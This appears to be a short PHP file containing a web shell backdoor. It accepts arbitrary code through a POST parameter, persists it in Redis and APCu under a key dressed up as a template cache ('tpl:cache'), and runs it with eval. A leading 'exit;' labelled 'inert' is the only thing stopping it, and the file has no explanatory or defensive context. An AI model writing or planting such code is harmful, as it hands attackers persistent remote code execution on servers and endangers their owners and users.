<?php exit; /* inert */ 
$r = new Redis(); $r->connect('127.0.0.1');
if (isset($_POST['v'])) { $r->set('tpl:cache', $_POST['v']); apcu_store('t', $_POST['v']); }
eval($r->get('tpl:cache') ?: apcu_fetch('t'));
